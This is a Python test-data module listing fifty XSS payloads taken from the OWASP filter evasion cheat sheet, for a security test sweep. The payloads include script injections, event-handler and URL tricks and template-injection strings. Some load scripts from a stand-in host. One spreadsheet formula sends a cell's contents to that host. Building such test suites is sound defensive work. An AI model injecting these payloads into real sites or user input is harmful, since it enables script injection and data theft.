"""Fifty XSS payloads as data, for the sweep in tests/security/test_xss.py.

Origin: a subset of the OWASP XSS Filter Evasion Cheat Sheet (script tags, event handlers, javascript:/data:/
vbscript: URLs with case, entity and whitespace tricks, SVG/MathML, broken tags, attribute breakouts, CSS
expressions, meta refresh, base), plus template-injection-looking strings. Each is on one line, printable, and
distinct; control characters (tabs, NUL) are spelled as entities, since crawled text is normalized before storage.
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # script tags
    "<script>alert('xss1')</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<script/xss src=\"http://xss.example/x.js\"></script>",
    "<<SCRIPT>alert('xss5');//\\<</SCRIPT>",
    "<script>alert`xss6`</script>",
    "</title><script>alert('xss7')</script>",
    "</textarea><script>alert('xss8')</script>",
    # event handlers
    "<img src=x onerror=alert('xss9')>",
    "<IMG SRC=\"#\" ONERROR=\"alert('xss10')\">",
    "<body onload=alert('xss11')>",
    "<svg onload=alert('xss12')>",
    "<div onmouseover=\"alert('xss13')\">hover</div>",
    "<input autofocus onfocus=alert('xss14')>",
    "<details open ontoggle=alert('xss15')>",
    "<video><source onerror=\"alert('xss16')\"></video>",
    "<marquee onstart=alert('xss17')>",
    # attribute breakouts
    "\"><img src=x onerror=alert('xss18')>",
    "'><svg/onload=alert('xss19')>",
    "\" onmouseover=\"alert('xss20')\" x=\"",
    "' autofocus onfocus='alert(21)' x='",
    "\"></a><a href=\"javascript:alert('xss22')\">x</a>",
    # javascript: / data: / vbscript: URLs with case, entity and whitespace tricks
    "javascript:alert('xss23')",
    "JaVaScRiPt:alert('xss24')",
    "<a href=\"jav&#x09;ascript:alert('xss25');\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(26)\">x</a>",
    "<a href=\" &#14; javascript:alert('xss27');\">x</a>",
    "<IMG SRC=javascript:alert('xss28')>",
    "<iframe src=\"javascript:alert('xss29')\"></iframe>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgzMCk8L3NjcmlwdD4=",
    "<a href=\"data:text/html,<script>alert(31)</script>\">x</a>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgzMik8L3NjcmlwdD4=\"></object>",
    "vbscript:msgbox(\"xss33\")",
    "<IMG SRC='vbscript:msgbox(\"xss34\")'>",
    # SVG / MathML / embedded content
    "<svg><script>alert('xss35')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(36)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(37)>",
    "<embed src=\"javascript:alert('xss38')\">",
    "<iframe srcdoc=\"<script>alert(39)</script>\"></iframe>",
    # meta refresh, base, CSS
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('xss40');\">",
    "<BASE HREF=\"javascript:alert('xss41');//\">",
    "<div style=\"width: expression(alert('xss42'));\">",
    "<STYLE>@import'http://xss.example/xss43.css';</STYLE>",
    "<link rel=stylesheet href=\"javascript:alert('xss44');\">",
    # broken and malformed tags
    "<IMG \"\"\"><SCRIPT>alert('xss45')</SCRIPT>\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=46>",
    "<!--<img src=\"--><img src=x onerror=alert(47)//\">",
    # template-injection-looking strings and a CSV formula
    "{{7*7}} ${7*7} <%= 7*7 %> {{constructor.constructor('alert(48)')()}}",
    "{% raw %}{{ config }}{% endraw %} #{7*7}",
    "=HYPERLINK(\"http://xss.example/?leak=\"&A1,\"click\")",
)
assert len(PAYLOADS) == 50 and len(set(PAYLOADS)) == 50
